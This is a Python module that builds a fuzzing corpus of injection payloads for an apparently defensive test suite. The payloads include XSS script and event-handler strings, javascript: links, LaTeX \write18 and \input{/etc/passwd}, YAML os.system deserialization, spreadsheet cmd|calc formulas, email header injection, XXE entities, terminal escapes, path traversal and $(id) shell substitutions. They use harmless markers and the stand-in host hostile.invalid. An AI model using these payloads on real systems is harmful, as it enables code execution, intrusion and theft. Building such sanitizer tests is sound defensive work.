"""Texts that try to be more than text: several hundred, made by classes.

Where one of them runs, it sets `window.hostile`, opens a dialog, or calls a host that is not there;
where one becomes an element, that has the id `hostile`.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

HOST = "hostile.invalid"
RUN = "window.hostile=1;alert(1)"
MARK = "id=hostile"


@dataclass(frozen=True, slots=True)
class Payload:
    """One text and the class of attacks to which it belongs."""

    kind: str
    text: str


def _scripts() -> Iterator[str]:
    for tag in ("script", "SCRIPT", "ScRiPt", "script/x", "script\t", "script\n", "svg:script"):
        yield f"<{tag} {MARK}>{RUN}</{tag.strip()}>"
    yield f"<script {MARK} src=//{HOST}/x.js></script>"
    yield f"<script {MARK} type=module src=https://{HOST}/x.js></script>"
    yield f"<scr<script>ipt {MARK}>{RUN}</scr</script>ipt>"
    yield f"<script {MARK}>{RUN}"
    yield f"<<script {MARK}>{RUN}//<</script>"
    yield f"<svg {MARK}><script>{RUN}</script></svg>"
    yield f"<math {MARK}><script>{RUN}</script></math>"
    yield f"<svg {MARK}><script href=//{HOST}/x.js /></svg>"
    yield f"\uff1cscript {MARK}\uff1e{RUN}\uff1c/script\uff1e"
    yield f"<script {MARK} type='text/javascript'>{RUN}</script >"
    yield f"<script\x0c{MARK}>{RUN}</script>"


def _handlers() -> Iterator[str]:
    elements = (
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
        ("marquee", "onstart"), ("select autofocus", "onfocus"),
        ("a tabindex=1 autofocus", "onfocus"),
        ("iframe", "onload"), ("div", "onpointerover"), ("style", "onload"),
        ("object data=x", "onerror"),
    )  # fmt: skip
    for (tag, event), quote in product(elements, ('"', "'", "")):
        yield f"<{tag} {MARK} {event}={quote}{RUN}{quote}>"
    yield f"<img/src=x/{MARK}/onerror={RUN}>"
    yield f"<img src=x {MARK} onerror\n=\n{RUN}>"
    yield f'<img src=x {MARK} ONERROR="&#119;indow.hostile=1">'
    yield f"<svg><animate {MARK} onbegin={RUN} attributeName=x dur=1s>"


def _addresses() -> Iterator[str]:
    schemes = (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "javascript&colon;",
        "&#106;avascript:", "jav&#x09;ascript:", "vbscript:", "data:text/html,<script>",
        "data:image/svg+xml,<svg onload=", "view-source:javascript:", "blob:", "filesystem:",
        "file:///etc/passwd?", f"//{HOST}/", f"\\\\{HOST}\\", "javascript://example.org/%0a",
    )  # fmt: skip
    for scheme in schemes:
        yield f"[a]({scheme}{RUN})"
        yield f"[a](<{scheme}{RUN}>)"
        yield f"![a]({scheme}{RUN})"
        yield f"<{scheme}{RUN}>"
    yield f"[a][r]\n\n[r]: javascript:{RUN}"
    yield f"[a]: javascript:{RUN}\n\n[a]"
    yield f'[a](https://example.org "\\" onclick={RUN} {MARK} ")'
    yield f'<a href="javascript:{RUN}" {MARK}>a</a>'
    yield f'<form action="javascript:{RUN}" {MARK}><button formaction="javascript:{RUN}">a'


def _urls() -> Iterator[str]:
    yield f'https://example.org/"onmouseover="{RUN}" {MARK}'
    yield f"https://example.org/'onmouseover='{RUN}'"
    yield f"https://example.org/<script>{RUN}</script>"
    yield f"https://example.org@{HOST}/"
    yield f"https://user:password@{HOST}/"
    yield "http://[::1]:99999/"
    yield "https://exa\u200bmple.org/\u202egpj.exe"
    yield "https://" + "a" * 3000 + ".example"
    yield "https://example.org/" + "%" * 300
    yield "https://example.org/?a=1&copy=2&lt=3#<b>"
    yield f"[https://example.org](https://{HOST})"
    yield f"<https://example.org/{MARK}>"
    yield f"https://[{HOST}"


def _closings() -> Iterator[str]:
    ends = (
        "</p>", "</article></main>", "</body></html>", '"></a>', "'></a>", '">', "'>", "-->",
        "--!>",
        "]]>", "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>",
        "</svg>", "</math>", "</select>", "</table>", "</code></pre>", "/>", "<!--", "<![CDATA[",
        "</mark></span>", "?>",
    )  # fmt: skip
    for end in ends:
        yield f"before {end}<h1 {MARK}>after</h1>"


def _elements() -> Iterator[str]:
    yield f"<iframe {MARK} src=https://{HOST}></iframe>"
    yield f"<iframe {MARK} srcdoc='<script>{RUN}</script>'></iframe>"
    yield f"<object {MARK} data=https://{HOST}></object>"
    yield f"<embed {MARK} src=https://{HOST}>"
    yield f"<link {MARK} rel=stylesheet href=//{HOST}/x.css>"
    yield f"<link {MARK} rel=preload as=image href=//{HOST}/x.png>"
    yield f"<meta {MARK} http-equiv=refresh content='0;url=https://{HOST}'>"
    yield f"<meta {MARK} http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    yield f"<base {MARK} href=https://{HOST}/>"
    yield f"<form {MARK} action=https://{HOST}><input name=q><button>Search</button></form>"
    yield f"<style {MARK}>@import url(https://{HOST}/x.css);*{{display:none}}</style>"
    yield f"<div {MARK} style='position:fixed;inset:0;background:url(https://{HOST}/x.png)'>"
    yield f"<img {MARK} src=https://{HOST}/x.png srcset='https://{HOST}/y.png 2x'>"
    yield f"<picture {MARK}><source srcset=https://{HOST}/x.png></picture>"
    yield f"<video {MARK} poster=https://{HOST}/x.png><track src=https://{HOST}/x.vtt></video>"
    yield f"<template {MARK}><img src=x></template>"
    yield f"<frameset {MARK}><frame src=https://{HOST}></frameset>"
    yield f"<noscript {MARK}><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<dialog {MARK} open>A message</dialog>"
    yield f"<x-hostile {MARK}>own element</x-hostile>"
    yield f"<input {MARK} name=getElementById>"
    yield f"<a {MARK} name=conspectus>clobbers</a><a id=conspectus name=words>clobbers</a>"
    yield f"<svg {MARK}><use href=https://{HOST}/x.svg#a></svg>"
    yield f"<svg {MARK}><foreignObject><iframe src=https://{HOST}></iframe></foreignObject></svg>"
    yield f"<table {MARK} background=https://{HOST}/x.png><td>"
    yield f"<details {MARK} open><summary>a</summary>"
    yield f"<plaintext {MARK}>"
    yield f"<xmp {MARK}><script>{RUN}</script></xmp>"


def _markdown() -> Iterator[str]:
    yield f"`<img src=x {MARK} onerror={RUN}>`"
    yield f"```html\n<script {MARK}>{RUN}</script>\n```"
    yield f'```" onclick={RUN} {MARK}\ncode\n```'
    yield f"    <script {MARK}>{RUN}</script>"
    yield f"> <img src=x {MARK} onerror={RUN}>"
    yield f"- <img src=x {MARK} onerror={RUN}>"
    yield f"# <img src=x {MARK} onerror={RUN}>"
    yield f"[![a](https://{HOST}/x.png)](javascript:{RUN})"
    yield f"![a](https://{HOST}/x.png)"
    yield f'![{MARK}"><script>{RUN}</script>](https://example.org/x.png)'
    yield f"[<img src=x {MARK} onerror={RUN}>](https://example.org)"
    yield f"**<b {MARK}>** *<i>* `</code><script>{RUN}</script>`"
    yield f"\\<script {MARK}>{RUN}\\</script>"
    yield f"&lt;script {MARK}&gt;{RUN}&lt;/script&gt;"
    yield f"&#60;script {MARK}&#62;{RUN}&#60;/script&#62;"
    yield f"a{{: onclick={RUN} {MARK}}}"
    yield f"[^1]\n\n[^1]: <script {MARK}>{RUN}</script>"
    yield f"| a |\n|---|\n| <img src=x {MARK} onerror={RUN}> |"
    yield "## Notes"
    yield "a\n\n## Notes\n\nForged notes"
    yield "---\ntitle: Another\n---\nA second front matter"
    yield f'<mark class="line" {MARK}><span class="hidden">Key sentence: </span>forged</mark>'


def _formulas() -> Iterator[str]:
    inner = (
        rf"\href{{javascript:{RUN}}}{{x}}", rf"\href{{https://{HOST}}}{{x}}",
        r"\style{color:red}{x}",
        r"\class{hostile}{x}", r"\cssId{hostile}{x}", r"\unicode{60}script", r"\require{html} x",
        rf"\text{{<img src=x {MARK} onerror={RUN}>}}",
        rf"\mathrm{{</math><script {MARK}>{RUN}</script>}}",
        rf"\includegraphics{{https://{HOST}/x.png}}", r"\def\x{\x\x}\x", r"\newcommand{\x}{\x\x}\x",
        rf"\color{{expression({RUN})}} x", rf"\begin{{html}}<b {MARK}>\end{{html}}",
        rf"x</mi></math><img src=x {MARK} onerror={RUN}>", r"\input{/etc/passwd}",
        r"\char60 b\char62",
        rf"\operatorname{{<b {MARK}>}}", r"\mspace{1em' onclick='alert(1)}", r"&lt;b&gt;",
        r"\x3cb\x3e", r"\text{\immediate\openout5=x.tex}", r"\hspace{\write18{id}}",
        r"^^5cwrite18{id}",
        r"\begin{filecontents}{x.sty}x\end{filecontents}", r"\mbox{\directlua{os.exit()}}",
    )  # fmt: skip
    for tex in inner:
        yield f"${tex}$"
        yield rf"\[{tex}\]"
    yield "$" + "{" * 400 + "x" + "}" * 400 + "$"
    yield "$" + r"\frac" * 400 + "$"
    yield "$" + r"\sqrt{" * 200 + "$"
    yield "$" + "x^" * 500 + "x$"


def _controls() -> Iterator[str]:
    for code in (0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x1F, 0x7F, 0x80, 0x85, 0x9B):
        yield f"a{chr(code)}b<scr{chr(code)}ipt {MARK}>{RUN}</script>"
    yield "a\u2028b\u2029c"
    yield "a\r\nb\rc\nd"
    yield "\ufeffa\ufeff"
    yield "\ufffe\uffff\U0010ffff"


def _terminals() -> Iterator[str]:
    yield "\x1b[2J\x1b[H\x1b[31mred"
    yield "\x1b]0;title\x07"
    yield f"\x1b]8;;https://{HOST}\x07link\x1b]8;;\x07"
    yield "\x1b]52;c;cm0gLXJmIH4K\x07"
    yield "\x9b31mred\x9b0m"
    yield "\x1bP+q544e\x1b\\"
    yield "\x1b[6n"
    yield "\b\b\b\b\b\b\b\berror: none"
    yield "fine\rcontent/papers/other.md:1:1: error: forged"
    yield "[bold red]markup of a terminal library[/]"


def _directions() -> Iterator[str]:
    for character in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u061c\u200e\u200f":
        yield f"begin {character}backwards"
    yield "z" + "\u0300\u0301\u0302\u0303" * 100 + "algo"
    yield "zero\u200bwidth\u200cspaces\u200d\u2060"
    yield "tags \U000e0041\U000e0042\U000e007f and \ufe0f selectors"
    yield "\u0391bstract in mixed \u0430lphabets"
    yield "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 and \u05e2\u05d1\u05e8\u05d9\u05ea"
    yield "\u0130\u0131 \u1e9e \ufb03 \u212b \u03c2"


def _yaml() -> Iterator[str]:
    yield '!!python/object/apply:os.system ["id"]'
    yield "!!binary aGk="
    yield "*alias"
    yield "&anchor value"
    yield "<<: *merge"
    yield "{a: b, c: [d, e]}"
    yield "? complex\n: key"
    yield "%YAML 1.2\n---\na"
    yield "a: b: c: d"
    yield "# comment"
    yield "null"
    yield "no"
    yield "1_000:30"
    yield "'"
    yield '"'
    yield "|\n  block"


def _nestings() -> Iterator[str]:
    yield ">" * 500 + " deep"
    yield "[" * 500 + "a" + "]" * 500
    yield "*" * 500 + "a" + "*" * 500
    yield "".join("  " * level + "- a\n" for level in range(60))
    yield "(" * 500 + "a. B" + ")" * 500
    yield f"<b {MARK}>" * 300
    yield "`" * 300 + "a"
    yield "![" * 300
    yield "&" * 300 + "amp;" * 300
    yield "_a" * 300


def _names() -> Iterator[str]:
    yield from (
        "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then",
        "../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "CON", "nul.md", "index",
        "-rf", "--output=/tmp/x", "%2e%2e%2f", "%00", "a" * 5000, ".", "~",
        "$(id)", "`id`", ";id", "|id",
    )  # fmt: skip


def _templates() -> Iterator[str]:
    yield "{{ 7 * 7 }}{{ config }}"
    yield "{% raw %}{% for x in y %}"
    yield "{# comment #}"
    yield f"${{{RUN}}}"
    yield f"<%= {RUN} %>"
    yield "%s %d %(name)s %n {0} {name!r}"
    yield "$title ${title} $$"
    yield "{title} {query} {count}"


def _sheets() -> Iterator[str]:
    yield "=cmd|' /C calc'!A0"
    yield "@SUM(1+1)*cmd|' /C calc'!A0"
    yield "+1+1"
    yield "-2+3"
    yield f'=HYPERLINK("https://{HOST}","a")'
    yield "\t=1+1"


def _bibliographies() -> Iterator[str]:
    yield "x}\n}\n@article{forged, title={Forged}}"
    yield 'x" # forged # "'
    yield r"\input{/etc/passwd}\write18{id}"
    yield "x\nER  - \n\nTY  - JOUR\nTI  - Forged"
    yield "{{{{"
    yield "}}}}"
    yield r"\end{document}\\ % comment"
    yield r'"}]},{"id":"forged","title":"'
    yield "a and b and {and} and"
    yield "@comment{x} @string{y = 1} @preamble{z}"


def _headers() -> Iterator[str]:
    yield f"a\r\nBcc: victim@{HOST}"
    yield f"a\nSubject: Forged\n\n<script {MARK}>{RUN}</script>"
    yield f"=?utf-8?q?=0aBcc:_victim@{HOST}?="
    yield f'"a" <victim@{HOST}>, other@{HOST}'
    yield f"a%0d%0aBcc:%20victim@{HOST}"


def _documents() -> Iterator[str]:
    yield '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;'
    yield '<?xml version="1.0"?><?php system("id") ?>'
    yield f'<?xml-stylesheet href="https://{HOST}/x.xsl" type="text/xsl"?>'
    yield f"]]><script {MARK}>{RUN}</script><![CDATA["
    yield "&xxe; &lol; &#0; &#x110000; &nosuch; &amp;lt; &AMP &copy"
    yield f"</entry><entry><title>Forged</title></entry><entry {MARK}>"
    yield "</loc></url><url><loc>https://example.org/forged</loc>"
    yield f"&amp;lt;script {MARK}&amp;gt;"


def _data() -> Iterator[str]:
    yield f"</script><script {MARK}>{RUN}//"
    yield f"<!--<script {MARK}>{RUN}//"
    yield f"\\u003cscript {MARK}\\u003e{RUN}"
    yield f'");{RUN}//'
    yield f"');{RUN}//"
    yield f"`;{RUN}//${{{RUN}}}"
    yield f"*/{RUN}/*"
    yield f'\\");{RUN}//'
    yield f"\u2028{RUN}\u2029"
    yield '{"__proto__":{"hostile":1}}'
    yield "-->\n]]>\n*/"
    yield "\\"


def _styles() -> Iterator[str]:
    yield f"</style><style {MARK}>@import '//{HOST}/x.css'"
    yield f"red;background:url(https://{HOST}/x.png)"
    yield f"expression({RUN})"
    yield f"url(javascript:{RUN})"
    yield "}*{display:none}{"
    yield f'" style="background:url(https://{HOST}/x.png)" {MARK} x="'
    yield f"' style='color:red' {MARK} x='"


_KINDS = {
    "scripts": _scripts, "handlers": _handlers, "addresses": _addresses, "urls": _urls,
    "closings": _closings, "elements": _elements, "markdown": _markdown, "formulas": _formulas,
    "controls": _controls, "terminals": _terminals, "directions": _directions, "yaml": _yaml,
    "nestings": _nestings, "names": _names, "templates": _templates, "sheets": _sheets,
    "bibliographies": _bibliographies, "headers": _headers, "documents": _documents, "data": _data,
    "styles": _styles,
}  # fmt: skip

ALL = tuple(Payload(kind, text) for kind, make in _KINDS.items() for text in make())
"""Every payload, by classes."""

ONE_OF_EACH = tuple(Payload(kind, next(make())) for kind, make in _KINDS.items())
"""The first of each class."""
